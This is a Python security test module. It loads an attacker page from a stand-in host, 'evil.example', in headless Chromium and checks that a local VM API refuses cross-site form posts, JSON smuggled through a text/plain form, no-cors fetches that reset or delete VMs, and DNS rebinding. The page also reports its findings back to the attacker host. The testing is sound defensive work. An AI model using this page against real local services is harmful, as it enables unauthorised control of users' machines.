"""From a browser: a real page in Chromium, which comes from a server of the attack's own.

The page tries all that a page of another site can. What it could send is on the audit log, which
also says what came of it: each of its ways asks for something else.
"""

from __future__ import annotations

import http.server
import json
import re
import subprocess
import threading
from contextlib import contextmanager
from functools import partial
from typing import TYPE_CHECKING, Any

from tests.attack.kinds import Came, From, Need, Request, attack

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.attack.place import Place

BROWSER = frozenset({Need.CHROMIUM})
PAGES = "what a browser says of a page"
_EVIL = "evil.example"
_PATIENCE_S = 300

_PAGE = """<!doctype html><title>evil</title>
<iframe name="hidden"></iframe>
<form id="form" method="post" target="hidden" action="API/vms/VM/resume"></form>
<form id="text" method="post" target="hidden" enctype="text/plain" action="API/run">
<input name='{"computation": "MQ=' value='"}'></form>
<script>
const told = {};
const tell = (name, what) => { told[name] = String(what).slice(0, 80); };
const all = [
  fetch("API/vms/VM/reset", {method: "POST", mode: "no-cors"}).then(
    r => tell("no-cors", r.type), e => tell("no-cors", e)),
  fetch("API/vms").then(r => r.text()).then(t => tell("cors", "READ " + t), e => tell("cors", e)),
  fetch("API/vms/VM", {method: "DELETE"}).then(r => tell("delete", "SENT"), e => tell("delete", e)),
  new Promise(done => {
    const image = new Image();
    image.onload = () => { tell("image", "READ"); done(); };
    image.onerror = () => { tell("image", "error"); done(); };
    image.src = "API/vms/VM/status";
  }),
  new Promise(done => {
    const source = new EventSource("API/events");
    source.onopen = () => { tell("EventSource", "READ"); source.close(); done(); };
    source.onerror = () => { tell("EventSource", "error"); source.close(); done(); };
  }),
  new Promise(done => {
    const socket = new WebSocket("API/vms/VM/events".replace("http", "ws"));
    socket.onopen = () => { tell("WebSocket", "READ"); done(); };
    socket.onerror = () => { tell("WebSocket", "error"); done(); };
  }),
  new Promise(done => {
    const frame = document.querySelector("iframe");
    frame.onload = () => {
      frame.onload = () => { tell("text", "sent"); done(); };
      tell("form", "sent");
      document.getElementById("text").submit();
    };
    document.getElementById("form").submit();
  }),
];
Promise.all(all).then(() => fetch("/told", {method: "POST", body: JSON.stringify(told)}));
</script>
"""


class _Evil(http.server.BaseHTTPRequestHandler):
    """Serves the page, and is told by it what it has learnt."""

    server: _Server

    def do_GET(self) -> None:
        self._answer(self.server.page if self.path == "/" else b"")

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        self._answer(b"")
        self.server.told = json.loads(body)
        self.server.over.set()

    def _answer(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: Any) -> None:
        """Nothing: the table says what came of it."""


class _Server(http.server.ThreadingHTTPServer):
    def __init__(self, page: bytes) -> None:
        super().__init__(("127.0.0.1", 0), _Evil)
        self.page = page
        self.told: dict[str, str] = {}
        self.over = threading.Event()


@contextmanager
def _evil(page: bytes) -> Iterator[_Server]:
    with _Server(page) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield server
        finally:
            server.shutdown()
            thread.join()


@contextmanager
def _browser(place: Place, *words: str) -> Iterator[subprocess.Popen[str]]:
    """A Chromium for which evil.example is this host."""
    profile = place.directory / f"chromium-{len(list(place.directory.glob('chromium-*')))}"
    process = subprocess.Popen(
        [
            *("chromium", "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run"),
            *("--disable-dev-shm-usage", "--disable-background-networking"),
            f"--user-data-dir={profile}",
            f"--host-resolver-rules=MAP {_EVIL} 127.0.0.1",
            *words,
        ],
        env={"PATH": "/usr/bin:/bin", "HOME": str(place.directory)},
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
    )
    try:
        yield process
    finally:
        process.terminate()
        process.communicate(timeout=_PATIENCE_S)


def _visit(place: Place) -> dict[str, str]:
    """What the page has learnt."""
    vm_id = place.paused()
    api = f"http://127.0.0.1:{place.unasked.http_port}"
    page = _PAGE.replace("API", api).replace("VM/", f"{vm_id}/").replace("/VM", f"/{vm_id}")
    with _evil(page.encode()) as evil:
        url = f"http://{_EVIL}:{evil.server_address[1]}/"
        with _browser(place, "--remote-debugging-port=0", url):
            assert evil.over.wait(_PATIENCE_S), "the page did not come to its end"
        return evil.told


def _line(place: Place, what: str, refused: str) -> Came:
    """What came of the page's request, by the audit log's last line of this kind."""
    lines = [one for one in place.unasked.audit() if one["what"] == what]
    if not lines or str(lines[-1]["status"]) != refused:
        return Came("through", detail=str(lines[-1:]))
    who = lines[-1]["caller"]
    return Came(refused, Request(place.unasked, lines[-1]["request_id"], what, who))


def _way(name: str, what: str, place: Place) -> Came:
    learnt = place.once("page", _visit)[name]
    if learnt.startswith(("READ", "SENT")):
        return Came("through", detail=learnt)
    return _line(place, what, "403")


#: By the page's name for it.
WAYS = [
    ("form", "a page in Chromium sends a form without a body", "POST /vms/<vm_id>/resume"),
    ("text", "a page in Chromium sends a form whose text is JSON", "POST /run"),
    ("no-cors", "a page in Chromium posts by fetch, without asking", "POST /vms/<vm_id>/reset"),
    ("cors", "a page in Chromium reads all VMs by fetch", "GET /vms"),
    ("delete", "a page in Chromium deletes a VM by fetch", "OPTIONS /vms/<vm_id>"),
    ("image", "a page in Chromium shows an answer as an image", "GET /vms/<vm_id>/status"),
    ("EventSource", "a page in Chromium follows all events", "GET /events"),
    # No path has a WebSocket, so the line names none.
    ("WebSocket", "a page in Chromium opens a WebSocket", "GET of no path"),
]
for _name, _what, _line_of in WAYS:
    attack(From.BROWSER, _what, held_by=PAGES, refusal="403", needs=BROWSER)(
        partial(_way, _name, _line_of)
    )


@attack(
    From.BROWSER,
    "a page in Chromium has its name bound to our address, and is loaded from here",
    held_by="the names of a host",
    refusal="421",
    needs=BROWSER,
)
def rebound(place: Place) -> Came:
    url = f"http://{_EVIL}:{place.unasked.http_port}/templates"
    with _browser(place, "--dump-dom", url) as process:
        page, _ = process.communicate(timeout=_PATIENCE_S)
    if re.search('"templates"', page):
        return Came("through", detail=page[:60])
    return _line(place, "GET /templates", "421")
